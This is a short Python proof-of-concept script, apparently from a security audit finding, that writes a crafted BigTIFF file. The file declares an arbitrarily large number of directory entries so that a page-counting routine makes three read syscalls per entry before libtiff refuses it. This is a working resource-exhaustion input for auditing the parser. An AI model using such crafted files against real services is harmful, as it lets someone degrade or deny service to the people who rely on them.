# Finding T5: ct_count_pages scans every entry of IFD0 with up to three pread calls each
# before libtiff (which refuses > 4096 entries) ever looks: a BigTIFF whose IFD0 declares
# N entries (all BYTE x 9, value inside the file) costs 3N syscalls.
import sys, struct
N = int(sys.argv[1]); out = sys.argv[2]
hdr = b'II+\x00' + struct.pack('<HHQ', 8, 0, 16)
ent = struct.pack('<HHQQ', 0x8000, 1, 9, 0)   # BYTE x 9 at offset 0: inside the file
ifd = struct.pack('<Q', N) + ent * N + struct.pack('<Q', 0)
open(out, 'wb').write(hdr + ifd)
